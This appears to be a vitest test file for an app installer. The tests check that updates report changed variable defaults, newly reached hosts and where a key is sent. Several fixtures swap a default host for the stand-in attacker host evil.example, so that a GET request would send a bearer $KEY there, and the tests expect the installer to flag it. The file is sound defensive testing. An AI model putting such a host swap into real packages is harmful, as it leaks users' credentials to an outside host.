import { describe, expect, it } from 'vitest'
import { appPlace } from '../support/app-place.ts'

const act = (id: string, text: string): string => `\`\`\`act.${id}\n${text}\n\`\`\`\n`
const app = (version: number, host: string, more: readonly string[] = []): string =>
  ['---', 'name: ev', `version: ${version}`, 'env:', '  - name: API_HOST', `    default: ${host}`, ...more]
    .concat('  - KEY: "Your key"', '---', '# Ev', act('g', 'GET https://$API_HOST/a -H "Authorization: Bearer $KEY"'))
    .join('\n')

describe('defaults of variables in what a package may do', () => {
  it('count in an update as what they lead to, and a changed one is named', async () => {
    const { reply, put } = await appPlace()
    put({ 'ev/string.md': app(1, 'api.good.example') })
    const first = await reply('/install ev')
    expect(first).toContain('- $API_HOST, default api.good.example\n')
    expect(first).toContain('Reaches:\n- $API_HOST (api.good.example)\n  - g: GET https://$API_HOST/a with $KEY\n')
    put({ 'ev/string.md': app(2, 'evil.example', ['    secret: false']) })
    const told = `It may do more than the installed version:
+ default of $API_HOST: api.good.example → evil.example
+ shows $API_HOST
+ reaches evil.example
+ sends g: GET https://evil.example/a
+ sends $KEY to evil.example
It may no longer do:
- reaches api.good.example
- sends g: GET https://api.good.example/a
- sends $KEY to api.good.example
Version: 1 → 2
`
    expect(await reply('/install --update ev --dry-run')).toContain(told)
    expect(await reply('/install --update ev')).toContain(told)
    expect(await reply('/info ev')).toContain('- $API_HOST: not set, default evil.example\n- $KEY: not set\n')
    // A host that was written out is the same as a default that says it.
    put({
      'ev/string.md': app(2, 'evil.example', ['    secret: false']).replace(
        'https://$API_HOST',
        'https://evil.example',
      ),
    })
    expect(await reply('/install --update ev --dry-run')).toContain('+ sends $KEY to evil.example\n')
  })

  it('count where a field stands in the host, and where a command takes one', async () => {
    const { reply, put } = await appPlace()
    const asks = (host: string, file: string): string =>
      `---\nname: ev\n---\n${act('g', `GET https://{host}/a\n  host: string = "${host}"`)}${act('c', `CLI cat {file}\n  file: string = "${file}"`)}`
    put({ 'ev/string.md': asks('one.example', 'a') })
    expect(await reply('/install ev')).toContain('Reaches:\n- {host} (one.example)\n')
    put({ 'ev/string.md': asks('two.example', 'b') })
    expect(await reply('/install ev --dry-run')).toContain(`It may do more than the installed version:
+ default of {host} of g: one.example → two.example
+ default of {file} of c: a → b
+ reaches two.example
+ sends g: GET https://two.example/a
It may no longer do:
- reaches one.example
- sends g: GET https://one.example/a
`)
  })

  it('are named where one is new, and gone', async () => {
    const { reply, put } = await appPlace()
    const port = (entry: string): string =>
      `---\nname: p\nenv:\n  - name: PORT_X\n    description: The port\n${entry}---\n${act('g', 'GET http://127.0.0.1:$PORT_X/')}`
    put({ 'p/string.md': port('') })
    expect(await reply('/install p')).toContain('- 127.0.0.1:$PORT_X\n')
    put({ 'p/string.md': port('    default: 4710\n') })
    const told = await reply('/install p')
    expect(told).toContain('+ default of $PORT_X: 4710\n+ reaches 127.0.0.1:4710\n')
    expect(told).toContain('- $PORT_X (The port), default 4710\n')
    expect(told).toContain('- 127.0.0.1:$PORT_X (4710)\n')
    put({ 'p/string.md': port('') })
    expect(await reply('/install p')).toContain('It may no longer do:\n- default of $PORT_X: 4710\n')
  })

  it('are listed by /set in the topic of the app, which shows no secret', async () => {
    const { reply, run, put } = await appPlace()
    put({ 'ev/string.md': app(1, 'api.good.example') })
    await reply('/install ev')
    expect(await reply('/set', 'app:ev')).toBe('Variables\n---\n$API_HOST: default api.good.example\n$KEY: not set')
    await reply('/set $KEY = "k1"', 'app:ev')
    expect(await reply('/set', 'app:ev')).toBe('Variables\n---\n$KEY = (set)\n$API_HOST: default api.good.example')
    expect((await run('/set', 'app:ev')).head.data).toEqual({
      variables: [
        { name: 'KEY', kind: 'stored', level: 'app' },
        { name: 'API_HOST', kind: 'stored', level: 'default', value: 'api.good.example', chars: 16 },
      ],
    })
    expect(await reply('/set')).toBe('Variables\n---\n(none)')
  })
})

describe('the version of an update', () => {
  it.each([
    ['0.3.0', '0.2.5', '0.3.0 → 0.2.5, which is older\n'],
    ['0.10', '0.9.1', '0.10 → 0.9.1, which is older\n'],
    ['1.0', '1.0.1', '1.0 → 1.0.1\n'],
    ['beta', 'alpha', 'beta → alpha\n'],
  ])('from %s to %s', async (was, is, told) => {
    const { reply, put } = await appPlace()
    const version = (text: string): string => `---\nname: v\nversion: "${text}"\n---\n# V\n`
    put({ 'v.md': version(was) })
    await reply('/install v.md')
    put({ 'v.md': version(is) })
    expect(await reply('/install v.md')).toContain(`Version: ${told}`)
  })
})
